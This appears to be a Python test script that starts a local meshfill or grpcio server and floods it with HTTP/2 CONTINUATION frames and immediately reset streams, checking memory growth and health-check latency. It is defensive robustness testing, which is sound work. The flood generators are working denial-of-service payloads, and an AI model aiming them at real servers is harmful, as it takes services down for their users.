#!/usr/bin/env python3
"""Floods a server with what gRPC 1.51 does not bound: CONTINUATION frames without end, and streams that are reset at once.

Prints the server's resident memory before, at most and after each flood, and the longest health check meanwhile.
Exits with 1 where memory has grown by more than --most-mib, or the next good call is not served.

Usage: http2_floods.py PATH_OF_MESHFILL [--seconds N] [--connections N] [--most-mib N]
       http2_floods.py grpcio [...]      the core of Python's package, in an echo server, with the server's own bounds
"""
import argparse
import pathlib
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from raw_http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFILL, RST_STREAM, Connection, frame, message,
                       request_headers, varint)

GET_POOL = "/meshfill.v1.PrefillService/GetPool"
HEALTH = "/grpc.health.v1.Health/Check"
RESETS_AT_ONCE = 200
# Of a core by itself, as channel_limits.cc bounds the server's.
ECHO = """
import concurrent.futures, grpc, threading
class Echo(grpc.GenericRpcHandler):
    def service(self, call):
        if call.method.endswith("/Prefill"):
            return grpc.stream_stream_rpc_method_handler(lambda requests, _: (each for each in requests))
        return grpc.unary_unary_rpc_method_handler(lambda request, _: request)
server = grpc.server(concurrent.futures.ThreadPoolExecutor(4),
                     options=[("grpc.max_concurrent_streams", 128), ("grpc.max_metadata_size", 16 << 10)])
server.add_generic_rpc_handlers((Echo(),))
print(f"listening on 127.0.0.1:{server.add_insecure_port('127.0.0.1:0')}", flush=True)
server.start()
print(f"ready: gRPC {grpc.__version__}", flush=True)
threading.Event().wait()
"""


def continuations():
    """One header block that never ends, of fields of 16,000 bytes."""
    yield frame(HEADERS, 0, 1, request_headers())
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f" + varint(16_000 - 127) + bytes(16_000))
    while True:
        yield more


def resets(path):
    headers = request_headers(path)
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, each, headers) + frame(RST_STREAM, 0, each, struct.pack(">I", 8))
                       for each in range(stream, stream + 2 * RESETS_AT_ONCE, 2))
        stream += 2 * RESETS_AT_ONCE


FLOODS = {"CONTINUATION": continuations, "resets of Prefill": lambda: resets(PREFILL), "resets of GetPool": lambda: resets(GET_POOL)}


class Flooded:
    """A server to flood: meshfill with a tiny model, or Python's gRPC."""

    def __init__(self, program, folder):
        if program == "grpcio":
            command = [sys.executable, "-c", ECHO]
        else:
            model = folder / "model"
            subprocess.run([program, "make-model", "--arch", "llama", "--out", model, "--layers", "1", "--hidden", "64"],
                           check=True, stdout=subprocess.DEVNULL)
            config = folder / "config.yaml"
            config.write_text(f"model: {{path: {model}}}\nlisten: 127.0.0.1:0\nmetrics_listen: ''\n"
                              "pool: {embedded: {ranks: 2, peak_flops: 1e11}}\n")
            command = [program, "serve", "--config", config]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.address = None
        for line in self.process.stdout:
            if match := re.search(r"listening on (\S+:\d+)", line):
                self.address = match.group(1)
            if match := re.search(r"ready: (.*)", line):
                self.name = match.group(1)
                break
        threading.Thread(target=lambda: [None for _ in self.process.stdout], daemon=True).start()

    def resident_mib(self):
        status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s+(\d+) kB", status).group(1)) >> 10

    def call_seconds(self):
        """How long a good call takes, of at most 10 s."""
        begin = time.monotonic()
        try:
            connection = Connection(self.address)
            connection.send(frame(DATA, END_STREAM, connection.open_stream(HEALTH), message(b"")))
            connection.wait_for_ends(1)
            connection.close()
        except OSError:
            return 10.0
        return time.monotonic() - begin


def send_until(deadline, address, flood):
    """Over one connection after the other, as fast as it goes."""

    def discard(connection):
        try:
            while connection.recv(1 << 16):
                pass
        except OSError:
            pass

    while time.monotonic() < deadline:
        try:
            connection = Connection(address)
            threading.Thread(target=discard, args=(connection.socket,), daemon=True).start()
            for data in flood():
                connection.send(data)
                if time.monotonic() > deadline:
                    break
            connection.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            time.sleep(0.01)  # the server has ended it


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("program")
    parser.add_argument("--seconds", type=float, default=10, help="of each flood")
    parser.add_argument("--connections", type=int, default=3, help="that flood at once")
    parser.add_argument("--most-mib", type=int, default=300, help="that memory may grow by")
    options = parser.parse_args()
    failed = False
    for name, flood in FLOODS.items():
        with tempfile.TemporaryDirectory() as folder:
            server = Flooded(options.program, pathlib.Path(folder))
            try:
                server.call_seconds()
                before = most = server.resident_mib()
                deadline = time.monotonic() + options.seconds
                threads = [threading.Thread(target=send_until, args=(deadline, server.address, flood))
                           for _ in range(options.connections)]
                for thread in threads:
                    thread.start()
                slowest = 0.0
                while time.monotonic() < deadline:
                    slowest = max(slowest, server.call_seconds())
                    most = max(most, server.resident_mib())
                    time.sleep(0.1)
                for thread in threads:
                    thread.join()
                served = server.call_seconds() < 10
                most = max(most, server.resident_mib())
                failed |= not served or most - before > options.most_mib
                print(f"{name:18} {server.name}: {before} MiB, at most {most} MiB; slowest call {slowest:.2f} s; "
                      f"{'served' if served else 'NOT SERVED'} afterwards", flush=True)
            finally:
                server.process.kill()
                server.process.wait()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
